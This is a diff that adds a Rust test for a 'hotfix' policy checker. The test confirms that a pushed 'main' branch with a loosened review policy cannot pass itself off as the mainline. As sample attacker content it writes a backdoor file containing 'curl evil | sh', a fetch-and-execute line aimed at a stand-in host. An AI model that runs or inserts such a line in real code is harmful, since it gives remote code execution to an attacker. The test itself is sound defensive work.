@@ -259,3 +259,56 @@ fn ship_config_cannot_loosen_mainlines_policy() {
     assert_eq!(policy["digest"].as_str().unwrap().len(), 7 + 64);
     assert_eq!(shipped["overrides"][0]["rule"], "max-lines");
 }
+
+/// Item 2: without the remote's HEAD (CI clones), a `main` branch pushed to a `master`
+/// repository does not become mainline: the remote is asked for its default branch, and with
+/// no answer and both branches present, hotfix refuses to guess.
+#[test]
+fn a_pushed_main_branch_does_not_become_mainline() {
+    let (s, fix) = Sandbox::released();
+    // The repository's mainline is master, with a strict policy.
+    s.git(&["branch", "-m", "main", "master"]);
+    s.commit(
+        &[(".hotfix.toml", "[policy]\nmin-reviewers = 2\n")],
+        "strict policy",
+    );
+    s.git(&["push", "-q", "origin", "master"]);
+    s.git_in(&s.origin, &["symbolic-ref", "HEAD", "refs/heads/master"]);
+    s.git(&["push", "-q", "origin", "--delete", "main"]);
+    // Someone pushes a `main` with a loose policy and a backdoor, then a hotfix picking it.
+    s.git(&["switch", "-q", "-c", "main", &fix]);
+    s.commit(
+        &[(
+            ".hotfix.toml",
+            "[policy]\nmin-reviewers = 0\nmax-lines = 10000\n",
+        )],
+        "loose",
+    );
+    let backdoor = s.commit(&[("src/backdoor.sh", "curl evil | sh\n")], "backdoor");
+    s.git(&["push", "-q", "origin", "main"]);
+    s.git(&["fetch", "-q", "--prune", "origin"]);
+    s.git(&["remote", "set-head", "origin", "--delete"]);
+    assert!(!s.git_ok(&["rev-parse", "-q", "--verify", "refs/remotes/origin/HEAD"]));
+    s.git(&["switch", "-q", "-c", "hotfix/1.1.1", "v1.1.0"]);
+    s.git(&["cherry-pick", "-x", &backdoor]);
+    // Asked, the remote says master: master's policy and master's history judge the hotfix.
+    let out = s.hotfix(&["check", "--format", "json", "--reviewer", "rita"]);
+    out.code(1);
+    let doc: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    let rule = |id: &str| {
+        doc["rules"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["id"] == id)
+            .unwrap()
+            .clone()
+    };
+    assert_eq!(rule("from-mainline")["verdict"], "fail", "{doc}");
+    assert_eq!(rule("reviewed")["detail"], "1 of 2 required reviewer(s)");
+    // With no remote to ask and both branches present, it refuses to guess.
+    s.git(&["remote", "set-url", "origin", "/nonexistent/origin.git"]);
+    s.hotfix(&["check", "--reviewer", "rita"])
+        .code(2)
+        .says("cannot tell which branch is mainline");
+}
